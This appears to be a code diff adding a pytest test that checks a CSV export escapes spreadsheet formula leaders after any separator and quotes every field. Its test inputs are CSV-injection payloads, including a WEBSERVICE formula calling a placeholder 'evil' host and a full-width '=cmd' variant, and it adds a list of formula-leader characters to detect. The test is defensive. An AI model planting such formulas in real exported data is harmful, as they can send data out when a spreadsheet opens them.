@@ -5,7 +5,9 @@ ASCII-only case folding, bounded work per request, and the smaller headers and c
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 
 import pytest
 
@@ -167,3 +169,37 @@ def test_a_promotion_that_keeps_losing_races_raises_instead_of_answering_unappro
     assert build.state is BuildState.CANDIDATE and not build.approved_by
     refused = world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN,))
     assert refused.status == 200  # without the race, it goes through
+
+
+# -- 4. CSV: every field quoted, a formula leader neutralised wherever a locale may split ---------------
+@pytest.mark.parametrize(
+    ("note", "shown"),
+    [
+        ('x;=WEBSERVICE("http://evil")', 'x;\'=WEBSERVICE("http://evil")'),
+        ("a,+1", "a,'+1"),
+        ("tab\t@SUM(A1)", "tab\t'@SUM(A1)"),
+        ("wide\uff1b\uff1dcmd", "wide\uff1b'\uff1dcmd"),
+        ("=1+1", "'=1+1"),
+        ("plain words - no formula", "plain words - no formula"),
+    ],
+)
+def test_a_formula_after_any_separator_is_neutralised_and_every_field_quoted(note: str, shown: str) -> None:
+    from rebuilder.entrypoints.export import render
+    from rebuilder.fakes.ledger import InMemoryLedger
+    from tests.records import build
+
+    ledger = InMemoryLedger()
+    made = build()
+    made = dataclasses.replace(made, provenance=dataclasses.replace(made.provenance, note=note))
+    ledger.claim_build(made, why="seeded", by="test")
+    text = "".join(render(ledger, [made], "csv"))
+    lines = [line for line in text.split("\r\n") if line]
+    assert len(lines) == 2 and all(line.startswith('"') and line.endswith('"') for line in lines)
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["note"] == shown
+    for separator in (";", ",", "\t", "|", "\uff1b"):  # a spreadsheet splitting naively, in any locale
+        pieces = [p.lstrip(' "') for line in lines for p in line.split(separator)]
+        assert not [p for p in pieces if p.startswith(LEADERS)], separator
+
+
+LEADERS = ("=", "+", "@", "\uff1d", "\uff0b", "\uff20")
